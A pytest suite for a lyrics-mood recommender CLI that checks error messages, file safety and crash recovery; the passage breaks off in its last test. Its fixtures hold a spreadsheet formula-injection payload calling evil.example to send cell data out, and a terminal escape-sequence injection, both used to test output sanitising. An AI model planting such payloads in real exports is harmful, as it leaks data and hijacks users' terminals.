"""Bad input, hostile input and faults: a clear error (never a traceback), nothing lost, nothing injected.

Every CLI case runs ``lyricmood.cli.main`` in-process and asserts the exit code, the message, and that every
file that existed before is byte-identical afterwards (and that nothing new appeared where a command was
refused). The kill -9 tests run a real process and kill it in the middle of an index build or a cache
preparation.
"""

from __future__ import annotations

import csv
import functools
import hashlib
import json
import os
import signal
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from lyricmood.cli import main
from lyricmood.errors import LyricMoodError, LyricMoodTypeError
from lyricmood.index import SongIndex
from lyricmood.index_files import INFO_CHECKSUM, info_checksum
from lyricmood.indexing import build_index
from lyricmood.io import MARKER_FILE
from lyricmood.formatting import format_recommendations
from lyricmood.recommender import Recommender

LABELS = ["joy", "sadness", "anger", "love", "fear"]
WORDS = "love sad tears rain night light alone happy joy dance fear angry hope home sorry miss heart cry".split()
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_ARTIST = "\x1b]0;PWNED\x07\x1b[2JArtist"

pytestmark = pytest.mark.usefixtures("one_torch_thread")


def song_rows(n: int, seed: int = 0) -> list[dict]:
    rng = np.random.default_rng(seed)
    rows = []
    for i in range(n):
        lines = [" ".join(rng.choice(WORDS, size=6)) for _ in range(3)]
        rows.append({
            "id": f"s{i}", "title": f"Song {i}", "artist": f"Artist {i % 3}", "year": 1990 + i,
            "lang": "en" if i % 2 else "ko", "lyrics": "\n".join(lines),
        })
    return rows


def write_csv(path: Path, rows: list[dict]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=["id", "title", "artist", "year", "lang", "lyrics"])
        writer.writeheader()
        writer.writerows(rows)
    return path


def snapshot(*roots: Path) -> dict[str, str]:
    """sha256 of every file under ``roots`` (symlinks not followed)."""
    found = {}
    for root in roots:
        for dirpath, _, filenames in os.walk(root):
            for name in filenames:
                path = Path(dirpath) / name
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


@pytest.fixture(scope="module")
def index_dir(model_dir, tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("catalog")
    rows = song_rows(6)
    rows[1].update(title=HOSTILE_TITLE, artist=HOSTILE_ARTIST)
    out = root / "index"
    argv = ["index", str(write_csv(root / "songs.csv", rows)), "--out", str(out), "--model", str(model_dir),
            "--no-progress", "--emotion-only"]
    assert main(argv) == 0
    return out


@pytest.fixture(scope="module")
def one_song_index(model_dir, tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("one")
    out = root / "index"
    argv = ["index", str(write_csv(root / "one.csv", song_rows(1))), "--out", str(out), "--model", str(model_dir),
            "--no-progress", "--emotion-only"]
    assert main(argv) == 0
    return out


def run_cli(argv: list[str], capsys) -> tuple[int, str, str]:
    capsys.readouterr()
    try:
        code = main(argv)
    except SystemExit as exit_:  # argparse's usage errors
        code = exit_.code
    out, err = capsys.readouterr()
    return code, out, err


# ------------------------------------------------------------------------------------------------
# CLI cases: (name, setup(tmp) -> extra context, argv template, exit code, message)
# Templates name {index}, {one}, {model} and {tmp}; setup writes the files a case needs into tmp.


def _foreign_folder(tmp: Path) -> None:
    (tmp / "folder").mkdir()
    (tmp / "folder" / "holiday.jpg").write_bytes(b"\xff\xd8 my photo")


def _partial_of_someone_else(tmp: Path) -> None:
    (tmp / "X.partial").mkdir()
    (tmp / "X.partial" / "thesis.tex").write_text("my thesis")


def _folder_with_foreign_index_json(tmp: Path) -> None:
    (tmp / "web").mkdir()
    (tmp / "web" / "index.json").write_text('{"pages": ["home"]}')
    (tmp / "web" / "app.js").write_text("console.log(1)")


def _catalogs(tmp: Path) -> None:
    (tmp / "header.csv").write_text("id,title,lyrics\n")
    rows = song_rows(2)
    write_csv(tmp / "year_inf.csv", [rows[0], {**rows[1], "year": "inf"}])
    write_csv(tmp / "year_huge.csv", [rows[0], {**rows[1], "year": "1e12"}])
    (tmp / "rows.jsonl").write_text(json.dumps(rows[0]) + "\n" + json.dumps({**rows[1], "lyrics": {"a": 1}}) + "\n")
    (tmp / "dup_column.csv").write_text("id,title,lyrics,id\na,A,sad rain,b\n")
    (tmp / "extra_cells.csv").write_text("id,title,lyrics\na,A,sad rain,oops,more\n")
    (tmp / "array.jsonl").write_text("[1, 2]\n")
    (tmp / "some.csv").write_text("id,title,lyrics\n")
    (tmp / "a_file").write_text("not a folder")
    (tmp / "existing.png").write_bytes(b"\x89PNG mine")
    (tmp / "lyrics_folder").mkdir()
    (tmp / "analysis").mkdir()
    (tmp / "analysis" / "arc.png").write_bytes(b"\x89PNG my arc")


CLI_CASES = [
    # data loss
    ("heatmap onto a folder", _foreign_folder,
     "heatmap --songs s0 s2 --index {index} --out {tmp}/folder", 1, "is a folder"),
    ("heatmap onto a folder, --overwrite", _foreign_folder,
     "heatmap --songs s0 s2 --index {index} --out {tmp}/folder --overwrite", 1, "is a folder"),
    ("heatmap onto an existing file", _catalogs,
     "heatmap --songs s0 s2 --index {index} --out {tmp}/existing.png", 1, "already exists"),
    ("heatmap as .txt", _catalogs, "heatmap --songs s0 s2 --index {index} --out {tmp}/h.txt", 1,
     "cannot draw a figure as .txt"),
    ("index next to a foreign .partial", _partial_of_someone_else,
     "index {tmp}/../catalog/songs.csv --out {tmp}/X --model {model}", 1, "not created by lyricmood"),
    ("--overwrite a foreign folder", _folder_with_foreign_index_json,
     "index {tmp}/../catalog/songs.csv --out {tmp}/web --model {model} --overwrite", 1, "not created by lyricmood"),
    ("--update a foreign folder", _folder_with_foreign_index_json,
     "index {tmp}/../catalog/songs.csv --out {tmp}/web --model {model} --update", 1, "not created by lyricmood"),
    ("index over an existing folder", _foreign_folder,
     "index {tmp}/../catalog/songs.csv --out {tmp}/folder --model {model}", 1, "already exists"),
    ("analyze onto existing figures", _catalogs,
     "analyze --text 'sad rain tonight' --model {model} --out {tmp}/analysis", 1, "already holds arc.png"),
    ("analyze onto a file", _catalogs, "analyze --text 'sad rain' --model {model} --out {tmp}/a_file", 1,
     "is a file, but --out needs a folder"),
    # numbers
    ("batch size -1", None, "index {tmp}/../catalog/songs.csv --out {tmp}/o --batch-size -1", 2, "must be at least 1"),
    ("batch size 0", None, "index {tmp}/../catalog/songs.csv --out {tmp}/o --batch-size 0", 2, "must be at least 1"),
    ("checkpoint every 0", None, "index {tmp}/../catalog/songs.csv --out {tmp}/o --checkpoint-every 0", 2,
     "must be at least 1"),
    ("k 0", None, "recommend --song s0 --index {index} -k 0", 2, "must be at least 1"),
    ("k abc", None, "recommend --song s0 --index {index} -k abc", 2, "not a whole number"),
    ("k above the catalog", None, "recommend --song s0 --index {index} -k 99", 1, "larger than the catalog"),
    ("diversity nan", None, "recommend --song s0 --index {index} --diversity nan", 2, "between 0 and 1"),
    ("mood nan", None, "recommend --mood sadness=nan --index {index}", 1, "finite number"),
    ("mood inf", None, "recommend --mood sadness=inf --index {index}", 1, "finite number"),
    ("mood negative", None, "recommend --mood sadness=-1 --index {index}", 1, "finite number"),
    ("mood all zero", None, "recommend --mood sadness=0 --index {index}", 1, "every mood weight is 0"),
    ("years inf", None, "recommend --song s0 --index {index} --years inf", 1, "bad --years"),
    ("years 1e12", None, "recommend --song s0 --index {index} --years 1e12", 1, "bad --years"),
    ("years reversed", None, "recommend --song s0 --index {index} --years 2000-1990", 1, "earlier first"),
    ("years matching nothing", None, "recommend --song s0 --index {index} --years 3000-3001", 1,
     "no song is from 3000-3001 (the catalog spans 1990-1995)"),
    ("unknown language", None, "recommend --song s0 --index {index} --lang xx", 1,
     "no song is in xx (the catalog's languages: en, ko)"),
    ("port 70000", None, "space --port 70000", 2, "a port is 1 to 65535"),
    ("port 0", None, "space --port 0", 2, "must be at least 1"),
    # catalogs
    ("header-only CSV", _catalogs, "index {tmp}/header.csv --out {tmp}/o --model {model}", 1,
     "holds no song (only a header"),
    ("year inf", _catalogs, "index {tmp}/year_inf.csv --out {tmp}/o --model {model}", 1,
     "line 5, field 'year': year 'inf' is not a whole number"),
    ("year 1e12", _catalogs, "index {tmp}/year_huge.csv --out {tmp}/o --model {model}", 1,
     "line 5, field 'year': year '1e12' is not a whole number"),
    ("JSON lyrics that are an object", _catalogs, "index {tmp}/rows.jsonl --out {tmp}/o --model {model}", 1,
     "line 2, field 'lyrics': expected text, got dict"),
    ("duplicate CSV column", _catalogs, "index {tmp}/dup_column.csv --out {tmp}/o --model {model}", 1,
     "line 1, field 'id': column 'id' appears 2 times"),
    ("more cells than columns", _catalogs, "index {tmp}/extra_cells.csv --out {tmp}/o --model {model}", 1,
     "line 2: 5 cells, the header has 3 columns"),
    ("JSON line that is not an object", _catalogs, "index {tmp}/array.jsonl --out {tmp}/o --model {model}", 1,
     "line 1: expected a JSON object"),
    # paths
    ("recommend --index a CSV", _catalogs, "recommend --song s0 --index {tmp}/some.csv", 1,
     "is a file, not an index folder"),
    ("index --out under a file", _catalogs, "index {tmp}/../catalog/songs.csv --out {tmp}/a_file/sub --model {model}",
     1, "a_file is a file, not a folder"),
    ("lyrics file that is a folder", _catalogs,
     "recommend --lyrics-file {tmp}/lyrics_folder --index {index} --model {model}", 1,
     "is a folder, not a lyrics file"),
    ("lyrics file missing", None, "recommend --lyrics-file {tmp}/nope.txt --index {index} --model {model}", 1,
     "lyrics file not found"),
    ("one-song catalog", None, "recommend --song s0 --index {one}", 1, "only one song, the query itself"),
    ("only the same artist left", None, "recommend --song s3 --index {index} --years 1990-1990 --exclude-same-artist",
     1, "by the query's artist"),
]


@pytest.mark.parametrize("name, setup, template, code, message", CLI_CASES, ids=[c[0] for c in CLI_CASES])
def test_cli_bad_input(name, setup, template, code, message, index_dir, one_song_index, model_dir, tmp_path,
                       capsys):
    work = tmp_path / "work"
    work.mkdir()
    if setup is not None:
        setup(work)
    # {tmp}/../catalog/songs.csv: the catalog beside the index (its own tmp folder, not snapshotted as work)
    argv = [
        part.format(index=index_dir, one=one_song_index, model=model_dir, tmp=work)
        .replace(f"{work}/../catalog/songs.csv", str(index_dir.parent / "songs.csv"))
        for part in _split(template)
    ]
    before = snapshot(work, index_dir.parent, one_song_index)
    exit_code, out, err = run_cli(argv, capsys)
    assert exit_code == code, (out, err)
    assert message in err, err
    assert "Traceback" not in err
    assert snapshot(work, index_dir.parent, one_song_index) == before


def _split(template: str) -> list[str]:
    import shlex

    return shlex.split(template)


def test_index_out_dot_overwrite_is_refused(index_dir, model_dir, tmp_path, monkeypatch, capsys):
    (tmp_path / "notes.txt").write_text("my notes")
    monkeypatch.chdir(tmp_path)
    before = snapshot(tmp_path)
    code, _, err = run_cli(["index", str(index_dir.parent / "songs.csv"), "--out", ".", "--overwrite",
                            "--model", str(model_dir), "--emotion-only"], capsys)
    assert code == 1 and "not created by lyricmood" in err
    assert snapshot(tmp_path) == before and sorted(os.listdir(tmp_path)) == ["notes.txt"]


# ------------------------------------------------------------------------------------------------
# What a command keeps, and what it prints


def test_update_and_overwrite_keep_files_lyricmood_does_not_own(index_dir, model_dir, tmp_path, capsys):
    out = tmp_path / "idx"
    catalog = write_csv(tmp_path / "songs.csv", song_rows(4))
    argv = ["index", str(catalog), "--out", str(out), "--model", str(model_dir), "--no-progress", "--emotion-only"]
    assert run_cli(argv, capsys)[0] == 0
    (out / "my-notes.md").write_text("notes about my index")
    write_csv(catalog, song_rows(5))
    for flag in ("--update", "--overwrite"):
        assert run_cli(["index", str(catalog), "--out", str(out), "--model", str(model_dir), "--no-progress", "--emotion-only", flag],
                       capsys)[0] == 0
        assert (out / "my-notes.md").read_text() == "notes about my index"
        assert len(SongIndex.load(out)) == 5
    marker = json.loads((out / MARKER_FILE).read_text())
    assert marker["created_by"] == "lyricmood" and "my-notes.md" not in marker["files"]
    assert not (tmp_path / "idx.partial").exists()


def test_analyze_overwrites_only_with_the_flag(model_dir, tmp_path, capsys):
    out = tmp_path / "analysis"
    argv = ["analyze", "--text", "sad rain tonight\nI miss you", "--model", str(model_dir), "--out", str(out)]
    assert run_cli(argv, capsys)[0] == 0
    (out / "mine.txt").write_text("keep")
    first = snapshot(out)
    assert run_cli(argv, capsys)[0] == 1 and snapshot(out) == first
    assert run_cli(argv + ["--overwrite"], capsys)[0] == 0 and (out / "mine.txt").read_text() == "keep"


def test_csv_output_neutralises_formulas(index_dir, capsys):
    code, out, _ = run_cli(["recommend", "--mood", "joy", "--index", str(index_dir), "-k", "6", "--format", "csv"],
                           capsys)
    assert code == 0
    rows = list(csv.DictReader(out.splitlines()))
    hostile = next(r for r in rows if r["id"] == "s1")
    assert hostile["title"] == "'" + HOSTILE_TITLE
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            assert "\x1b" not in value and "\x07" not in value


def test_table_output_strips_control_characters(index_dir, capsys):
    code, out, _ = run_cli(["recommend", "--mood", "joy", "--index", str(index_dir), "-k", "6"], capsys)
    assert code == 0 and "]0;PWNED[2JArtist" in out
    assert not any(ch in out for ch in "\x1b\x07\x9b\u202e")
    code, _, err = run_cli(["recommend", "--song", "\x1b[2Jx", "--index", str(index_dir)], capsys)
    assert code == 1 and "\x1b" not in err


def test_json_output_escapes_raw_controls(index_dir):
    index = SongIndex.load(index_dir)
    recs = Recommender(index).similar_songs("s0", k=5)
    recs[0].title = "a\x9b\u202eb"
    text = format_recommendations(recs, "json")
    assert "\x9b" not in text and "\u202e" not in text and json.loads(text)[0]["title"] == "a\x9b\u202eb"


def test_huge_mood_weights_mean_their_proportions(index_dir):
    recommender = Recommender(SongIndex.load(index_dir))
    huge = recommender.recommend_for_mood({"sadness": 1e308, "love": 1e308}, k=6)
    plain = recommender.recommend_for_mood({"sadness": 1, "love": 1}, k=6)
    assert [r.id for r in huge] == [r.id for r in plain]
    assert [r.score for r in huge] == pytest.approx([r.score for r in plain])
    assert len({round(r.score, 4) for r in huge}) > 1  # not every score 0.000


def test_lyrics_over_the_csv_field_limit_are_read(model_dir, tmp_path, capsys):
    rows = song_rows(2)
    rows[0]["lyrics"] = "\n".join(["I miss you in the rain tonight"] * 6000)  # ~186 KB
    assert len(rows[0]["lyrics"]) > 131072
    catalog = write_csv(tmp_path / "long.csv", rows)
    out = tmp_path / "idx"
    assert run_cli(["index", str(catalog), "--out", str(out), "--model", str(model_dir), "--no-progress", "--emotion-only"],
                   capsys)[0] == 0
    assert SongIndex.load(out).song_emotion("s0").num_tokens > 30_000


# ------------------------------------------------------------------------------------------------
# Damaged or hand-edited indexes (checksums valid): refused at load, with the line and field


def _rewrite_index(path: Path, edit_rows=None, edit_info=None, vectors=None) -> None:
    from safetensors.numpy import load_file, save_file

    if vectors is not None:
        tensors = load_file(str(path / "vectors.safetensors"))
        tensors["vectors"] = vectors(tensors["vectors"])
        save_file(tensors, str(path / "vectors.safetensors"))
    rows = [json.loads(line) for line in (path / "songs.jsonl").read_text().splitlines()]
    if edit_rows is not None:
        rows = edit_rows(rows)
    (path / "songs.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows))
    info = json.loads((path / "index.json").read_text())
    info["files"] = {name: hashlib.sha256((path / name).read_bytes()).hexdigest() for name in info["files"]}
    if edit_info is not None:
        edit_info(info)
    info[INFO_CHECKSUM] = info_checksum(info)  # resealed, as a careful hand editor would: the checks below still apply
    (path / "index.json").write_text(json.dumps(info))


def _nan_row(v):
    v = v.copy()
    v[2, 1] = np.nan
    return v


DAMAGE = [
    ("NaN vector", dict(vectors=_nan_row), "non-finite values (NaN or infinity), first song 's2'"),
    ("row without id", dict(edit_rows=lambda rows: [{k: v for k, v in r.items() if k != "id"} if i == 1 else r
                                                      for i, r in enumerate(rows)]), "line 2, field 'id'"),
    ("row not an object", dict(edit_rows=lambda rows: rows[:1] + [["s1"]] + rows[2:]), "line 2: the row is not"),
    ("year as text", dict(edit_rows=lambda rows: [{**r, "year": "1990s"} for r in rows]),
     "line 1, field 'year': year must be a whole number"),
    ("duplicate id", dict(edit_rows=lambda rows: [{**r, "id": "s0"} for r in rows]), "duplicate song id 's0'"),
    ("sections not a list", dict(edit_rows=lambda rows: [{**r, "sections": "Verse"} for r in rows]),
     "line 1, field 'sections': sections must be a list"),
    ("sections and vectors disagree", dict(edit_rows=lambda rows: [{**r, "sections": ["a", "b", "c", "d"]}
                                                                   for r in rows]), "one per stored section vector"),
    ("version as text", dict(edit_info=lambda info: info.update(version="2")), "invalid version '2'"),
    ("labels not a list", dict(edit_info=lambda info: info.update(labels="joy")), "invalid 'labels'"),
    ("file name with a path", dict(edit_info=lambda info: info["files"].update({"../x": "0"})), "invalid 'files'"),
]


@pytest.mark.parametrize("name, damage, message", DAMAGE, ids=[d[0] for d in DAMAGE])
def test_hand_edited_index_is_refused(name, damage, message, index_dir, tmp_path, capsys):
    import shutil

    path = tmp_path / "idx"
    shutil.copytree(index_dir, path)
    _rewrite_index(path, **damage)
    before = snapshot(tmp_path)
    with pytest.raises(LyricMoodError, match=None) as caught:
        SongIndex.load(path)
    assert message in str(caught.value)
    code, _, err = run_cli(["recommend", "--song", "s0", "--index", str(path)], capsys)
    assert code == 1 and message in err and "Traceback" not in err
    assert snapshot(tmp_path) == before


# ------------------------------------------------------------------------------------------------
# The Python API


def test_api_type_checks(index_dir, predictor):
    with pytest.raises(LyricMoodTypeError, match="got bytes.*decode"):
        predictor.score_song(b"sad rain")
    with pytest.raises(LyricMoodTypeError, match="got dict"):
        predictor.score_song({"lyrics": "sad rain"})
    with pytest.raises(LyricMoodTypeError):
        list(predictor.score_songs(["fine words", 42]))
    with pytest.raises(LyricMoodTypeError, match="for one song use score_song"):
        list(predictor.score_songs("sad rain"))
    recommender = Recommender(SongIndex.load(index_dir), predictor=predictor)
    for query in (b"sad rain tonight", {"lyrics": "sad rain"}, ["s0"], None.__class__):
        with pytest.raises(LyricMoodTypeError):
            recommender.similar_songs(query, k=2)
    assert recommender.similar_songs("s0", k=2) == recommender.similar_songs(recommender.resolve_id("s0"), k=2)
    with pytest.raises(LyricMoodTypeError, match="mapping of emotions"):
        recommender.recommend_for_mood("sadness", k=2)
    nan = np.full(len(LABELS), np.nan)
    with pytest.raises(LyricMoodError, match="NaN or infinity"):
        recommender.similar_songs(vector=nan, k=2)
    with pytest.raises(LyricMoodError, match="array of numbers"):
        recommender.similar_songs(vector="sad", k=2)
    for k in (0, -1, 1.5, "3", True):
        with pytest.raises(LyricMoodError, match="k must be"):
            recommender.similar_songs("s0", k=k)
    for years in ((float("inf"), 2000), (1990, 1e12), ("x", 1)):
        with pytest.raises(LyricMoodError, match="year range"):
            recommender.similar_songs("s0", k=2, year_range=years)
    with pytest.raises(LyricMoodError, match="diversity"):
        recommender.similar_songs("s0", k=2, diversity=float("nan"))
    with pytest.raises(LyricMoodError, match="finite number"):
        recommender.recommend_for_mood({"joy": float("nan")})


def test_api_index_checks(predictor):
    index = SongIndex.empty(LABELS, fingerprint=predictor.fingerprint)
    for bad_id in (None, "", "  ", 1.5, b"x"):
        with pytest.raises(LyricMoodError, match="song id must be a non-empty text"):
            index.add(bad_id, np.ones(len(LABELS)))
    index.add(7, np.ones(len(LABELS)))  # an int id is kept as text
    assert index.ids == ["7"]
    with pytest.raises(LyricMoodError, match="not finite"):
        index.add("x", np.array([np.nan] * len(LABELS)))
    with pytest.raises(LyricMoodError, match="not an array of numbers"):
        index.add("x", "sad")
    with pytest.raises(LyricMoodError, match="catalog has no songs"):
        build_index([], predictor, progress=False)
    with pytest.raises(LyricMoodError, match="must be rows"):
        build_index("songs.csv", predictor, progress=False)
    predictor.batch_size, size = -1, predictor.batch_size
    try:
        with pytest.raises(LyricMoodError, match="batch size must be a whole number"):
            build_index(song_rows(2), predictor, progress=False)
    finally:
        predictor.batch_size = size


API_OUT_CASES = [
    ("existing foreign folder", _foreign_folder, "folder", {}, "already exists"),
    ("overwrite a foreign folder", _foreign_folder, "folder", {"overwrite": True}, "not created by lyricmood"),
    ("update a foreign folder", _folder_with_foreign_index_json, "web", {"update": True}, "not created by lyricmood"),
    ("foreign .partial", _partial_of_someone_else, "X", {}, "not created by lyricmood"),
    ("under a file", _catalogs, "a_file/sub", {}, "is a file, not a folder"),
]


@pytest.mark.parametrize("name, setup, out, flags, message", API_OUT_CASES, ids=[c[0] for c in API_OUT_CASES])
def test_api_index_catalog_refuses_before_scoring(name, setup, out, flags, message, predictor, tmp_path, monkeypatch):
    from lyricmood.indexing import index_catalog
    from lyricmood.inference import EmotionPredictor

    setup(tmp_path)
    before = snapshot(tmp_path)
    monkeypatch.setattr(EmotionPredictor, "score_songs", lambda *a, **k: pytest.fail("scored before refusing"))
    with pytest.raises(LyricMoodError, match=message):
        index_catalog(song_rows(3), predictor, tmp_path / out, progress=False, **flags)
    assert snapshot(tmp_path) == before


def test_api_figures_never_replace_a_folder(tmp_path):
    from matplotlib.figure import Figure

    from lyricmood.plots import save_figure

    _foreign_folder(tmp_path)
    before = snapshot(tmp_path)
    for path in (tmp_path / "folder", tmp_path / "figure.txt"):
        with pytest.raises(LyricMoodError):
            save_figure(Figure(), path)
    assert snapshot(tmp_path) == before


def test_huge_single_line_is_chunked_without_tokenizing_it_whole(predictor):
    from lyricmood import lyrics

    calls = []
    tokenizer = predictor.tokenizer

    class Counting:
        def __getattr__(self, name):
            return getattr(tokenizer, name)

        def __call__(self, texts, **kwargs):
            texts_list = [texts] if isinstance(texts, str) else texts
            calls.append((max(len(t) for t in texts_list), sum(len(t) for t in texts_list)))
            return tokenizer(texts, **kwargs)

    line = "sad rain tears night " * 25_000  # 500 KB on one line
    chunks = list(lyrics.iter_chunks(lyrics.split_lyrics(line), Counting(), 100))
    assert max(longest for longest, _ in calls) <= lyrics.MAX_PIECE_CHARS  # never the whole line at once
    assert max(total for _, total in calls) <= 17 * lyrics.MAX_PIECE_CHARS  # nor all of its pieces
    assert " ".join(c.text for c in chunks).split() == line.split()  # every word, once, in order
    assert all(c.weight <= 100 for c in chunks)


# ------------------------------------------------------------------------------------------------
# Concurrency: writers and readers of one index


def test_concurrent_saves_and_loads_never_fail(tmp_path):
    versions = []
    for n in (3, 5):
        index = SongIndex.empty(LABELS, fingerprint="f" * 64)
        for i in range(n):
            index.add(f"s{i}", np.random.default_rng(i).random(len(LABELS)), {"title": f"T{i}"})
        versions.append(index)
    path = tmp_path / "idx"
    versions[0].save(path)
    errors: list[BaseException] = []
    sizes: set[int] = set()

    def write(index):
        try:
            for _ in range(25):
                index.save(path)
        except BaseException as err:  # noqa: BLE001 - collected and reported by the test
            errors.append(err)

    def read():
        try:
            for _ in range(60):
                sizes.add(len(SongIndex.load(path)))
        except BaseException as err:  # noqa: BLE001
            errors.append(err)

    threads = [threading.Thread(target=write, args=(v,)) for v in versions] + [threading.Thread(target=read)
                                                                                 for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors, errors
    assert sizes <= {3, 5}
    assert sorted(p.name for p in path.iterdir()) == [MARKER_FILE, "index.json", "songs.jsonl", "vectors.safetensors"]


# ------------------------------------------------------------------------------------------------
# kill -9 in the middle of an index build and of a cache preparation


def _python(code: str, **env: str) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-c", textwrap.dedent(code)],
        env={**os.environ, **env},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )


def _wait_for(predicate, process: subprocess.Popen, timeout: float = 120.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if process.poll() is not None:
            raise AssertionError(f"the process ended early: {process.stderr.read().decode()[-2000:]}")
        if time.monotonic() > deadline:
            process.kill()
            raise AssertionError("timed out")
        time.sleep(0.05)


@pytest.mark.slow
def test_kill_during_index_build_then_resume(model_dir, predictor, tmp_path, capsys):
    rows = song_rows(12)
    catalog = write_csv(tmp_path / "songs.csv", rows)
    (tmp_path / "keep.txt").write_text("mine")
    out = tmp_path / "idx"
    process = _python(f"""
        import time
        from lyricmood import indexing
        from lyricmood.cli import main
        write = indexing._Checkpoint.write
        def slow_write(self, songs):
            write(self, songs)
            time.sleep(0.5)  # leave the test time to kill between checkpoints
        indexing._Checkpoint.write = slow_write
        main(["index", {str(catalog)!r}, "--out", {str(out)!r}, "--model", {str(model_dir)!r},
              "--checkpoint-every", "2", "--no-progress", "--emotion-only"])
    """, TORCH_NUM_THREADS="1", OMP_NUM_THREADS="1")
    shard = tmp_path / "idx.partial" / "shard-0-of-1"
    _wait_for(lambda: len(list(shard.glob("part-*/index.json"))) >= 2, process)
    process.send_signal(signal.SIGKILL)
    process.wait()
    assert (tmp_path / "idx.partial" / MARKER_FILE).is_file() and not (out / "index.json").exists()
    before = {k: v for k, v in snapshot(tmp_path).items() if "idx" not in k}
    assert run_cli(["index", str(catalog), "--out", str(out), "--model", str(model_dir), "--no-progress", "--emotion-only"],
                   capsys)[0] == 0
    resumed = SongIndex.load(out)
    direct = build_index(rows, predictor, progress=False, num_processes=1, process_index=0)
    assert resumed.ids == direct.ids
    np.testing.assert_allclose(resumed.vectors, direct.vectors, atol=1e-6)
    assert not (tmp_path / "idx.partial").exists()
    assert {k: v for k, v in snapshot(tmp_path).items() if "idx" not in k} == before


def test_kill_during_cache_preparation_is_cleaned_and_checksums_are_verified(tmp_path, monkeypatch):
    from lyricmood import default_model

    cache = tmp_path / "cache"
    process = _python(f"""
        import time
        from pathlib import Path
        from lyricmood import default_model
        def hang(tmp, fingerprint):
            tmp.mkdir()
            (tmp / "model.safetensors").write_bytes(b"x" * 1_000_000)
            time.sleep(600)
        default_model._build = hang
        default_model.default_model_path(cache=Path({str(cache)!r}))
    """)
    models = cache / "models"
    _wait_for(lambda: any(p.name.endswith(".tmp") for p in models.glob(".default-*")) if models.is_dir() else False,
              process)
    process.send_signal(signal.SIGKILL)
    process.wait()
    assert [p for p in models.iterdir() if p.name.endswith(".tmp")]  # the killed preparation's leftovers
    (models / ".default-0123456789abcdef.x1y2.tmp").mkdir()  # and one of an older version's
    (models / ".default-0123456789abcdef.x1y2.tmp" / "model.safetensors").write_bytes(b"old")

    builds = []

    def fake_build(tmp: Path, fingerprint: str) -> None:  # what _build writes, minus the real model
        from lyricmood.io import folder_manifest

        builds.append(tmp)
        tmp.mkdir()
        (tmp / "model.safetensors").write_bytes(b"weights" * 1000)
        (tmp / "config.json").write_text("{}")
        stamp = {"fingerprint": fingerprint, "build_version": default_model.BUILD_VERSION, "files": folder_manifest(tmp)}
        (tmp / default_model.STAMP_FILE).write_text(json.dumps(stamp))

    monkeypatch.setattr(default_model, "_build", fake_build)
    path = default_model.default_model_path(cache=cache)
    assert sorted(p.name for p in models.iterdir()) == [path.name] and len(builds) == 1
    assert default_model.default_model_path(cache=cache) == path and len(builds) == 1  # intact: reused

    weights = path / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:100])  # truncated, stamp intact
    assert default_model.default_model_path(cache=cache) == path and len(builds) == 2
    assert weights.read_bytes() == b"weights" * 1000

    data = bytearray(weights.read_bytes())
    data[10] ^= 1  # same size, one byte changed
    weights.write_bytes(bytes(data))
    os.utime(weights, ns=(time.time_ns(), time.time_ns() + 10**9))
    assert default_model.default_model_path(cache=cache) == path and len(builds) == 3


def test_bit_rot_in_the_cached_default_model_is_caught_and_the_query_answered(tmp_path, monkeypatch, capsys):
    """Same size and mtime, other bytes (issue 22): the lyrics query rebuilds the cache and answers, no 'another model'."""
    import shutil

    from lyricmood import default_model
    from lyricmood.datasets_scripts.goemotions import LABELS
    from lyricmood.io import write_stamp
    from lyricmood.testing import demo_songs, make_tiny_index, make_tiny_model

    monkeypatch.setenv("LYRICMOOD_CACHE", str(tmp_path / "cache"))
    builds = []

    def tiny_build(tmp: Path, fingerprint: str) -> None:  # _build's folder and stamp, with a tiny model
        builds.append(tmp)
        shutil.copytree(make_tiny_model(tmp_path / f"build-{len(builds)}", LABELS), tmp)
        write_stamp(tmp, default_model.STAMP_FILE, {"fingerprint": fingerprint, "build_version": default_model.BUILD_VERSION})

    monkeypatch.setattr(default_model, "_build", tiny_build)
    load = functools.partial(default_model.load_predictor, meaning_model=None)  # the emotion model is the subject
    first = load()
    assert "Loading weights" not in capsys.readouterr().err  # no progress bar on every lyrics query
    recommender = Recommender(make_tiny_index(demo_songs()[:6], first), load_predictor=load)

    weights = default_model.default_model_path() / "model.safetensors"
    stat, data = weights.stat(), bytearray(weights.read_bytes())
    data[-3] ^= 0x10  # a bit of the last tensor's data
    weights.write_bytes(bytes(data))
    os.utime(weights, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert weights.stat().st_size == stat.st_size and len(builds) == 1

    results = recommender.similar_to_lyrics("sad rain alone\ntears at night", k=2)
    assert len(results) == 2 and len(builds) == 2  # rebuilt, then answered
    assert recommender.predictor.fingerprint == first.fingerprint and weights.read_bytes() != bytes(data)


def test_an_index_written_before_markers_can_still_be_updated(index_dir, model_dir, tmp_path, capsys):
    import shutil

    out = tmp_path / "old-index"
    shutil.copytree(index_dir, out)
    (out / MARKER_FILE).unlink()  # as written by an older lyricmood
    (out / "notes.txt").write_text("mine")
    argv = ["index", str(index_dir.parent / "songs.csv"), "--out", str(out), "--model", str(model_dir),
            "--no-progress", "--emotion-only", "--update"]
    assert run_cli(argv, capsys)[0] == 0
    assert json.loads((out / MARKER_FILE).read_text())["kind"] == "index"
    assert (out / "notes.txt").read_text() == "mine" and len(SongIndex.load(out)) == 6


def test_index_update_with_nothing_changed_does_not_load_the_model(model_dir, tmp_path, monkeypatch, capsys):
    """Issue 23: `index --update` with an unchanged catalog answered only after loading the model (19.6 s)."""
    from lyricmood import default_model
    from lyricmood.index import read_index_info

    csv_path = write_csv(tmp_path / "songs.csv", song_rows(3))
    out = tmp_path / "index"
    assert run_cli(["index", str(csv_path), "--out", str(out), "--model", str(model_dir), "--no-progress"], capsys)[0] == 0
